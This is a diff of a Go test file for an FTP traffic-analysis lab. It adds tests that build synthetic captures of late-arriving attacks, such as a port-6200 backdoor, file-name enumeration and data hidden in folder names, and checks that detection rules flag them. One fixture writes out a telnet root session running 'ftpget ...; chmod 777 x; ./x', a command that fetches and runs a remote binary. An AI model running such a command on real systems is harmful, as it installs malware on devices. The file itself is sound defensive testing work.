@@ -8,9 +8,11 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"ftplab/lab/analysis/baseline/evidence"
 	"ftplab/lab/analysis/baseline/internal/bounded"
+	"ftplab/lab/analysis/baseline/rules"
 	"ftplab/lab/analysis/capture"
 	"ftplab/lab/internal/forge"
 )
@@ -105,6 +107,57 @@ func TestFilledTables(t *testing.T) {
 			}
 			if got := bound(t, func(f *forge.Capture) { test.fill(f); quiet(f) }, func(l bounded.Limit) int { return l.Most }); got.Verdict != IsNormal {
 				t.Errorf("what fills the table: got %v\nwant %s", got, IsNormal)
+			}
+		})
+	}
+}
+
+// TestLateActs does what is not normal after so much else between the same two hosts that not all of it is remembered.
+func TestLateActs(t *testing.T) {
+	for _, test := range []struct {
+		name, rule string
+		play       func(*forge.Capture)
+	}{
+		{"data in the names of folders, after many names", "names-are-words", func(f *forge.Capture) {
+			session1(numberedLines(300, "> RETR report%d.txt\n< 150 here\n< 226 done\n"))(f)
+			session1(numberedText(100, "> MKD %s\n< 550 no\n"))(f)
+		}},
+		{"numbers that somebody tries, after many that exist", "names-are-known", func(f *forge.Capture) {
+			session1(numberedLines(300, "> RETR spa%012x.xml\n< 150 here\n< 226 done\n"))(f)
+			var b strings.Builder
+			for i := range 280 {
+				fmt.Fprintf(&b, "> RETR spa%012x.xml\n< 550 no\n", 300+i)
+			}
+			session1(b.String())(f)
+		}},
+		{"a back door, after many conversations", "no-third-ports", func(f *forge.Capture) {
+			for range 12 {
+				dial(f, aClient, aServer+":9000").Say("> open\n< sesame").Close()
+			}
+			f.Pass(time.Hour)
+			t := f.Control().Say(hello)
+			dial(f, aClient, aServer+":6200").Say("> open\n< sesame").Close()
+			t.Say(bye).Peer.Close()
+		}},
+		{"an instruction, before many others", "files-are-no-orders", func(f *forge.Capture) {
+			order := dial(f, "203.0.113.66", aClient+":23").Say("< login:\n> root\n< #\n> ftpget 192.0.2.21 x x.arm; chmod 777 x; ./x")
+			for i := range 12 {
+				order.Say(fmt.Sprintf("> ftpget 192.0.2.%d y y.arm; chmod 777 y; ./y", i))
+			}
+			order.Close()
+			moves([2]string{"RETR x.arm", "\x7fELF"})(f)
+		}},
+		{"a server that takes the place of another, after many logins", "no-detours", func(f *forge.Capture) {
+			for range 300 {
+				f.Control().Say("< 220 hi\n> USER bob\n< 331 and?\n> PASS right\n< 230 in\n> QUIT\n< 221 bye").Peer.Close()
+			}
+			displaced("530 no", "FTP Service")(f)
+		}},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			got := forged(t, test.play)
+			if !slices.ContainsFunc(got.Findings, func(f rules.Finding) bool { return f.Rule == test.rule && f.Severity != rules.Note }) {
+				t.Errorf("got %v\nwant %s", got, test.rule)
 			}
 		})
 	}
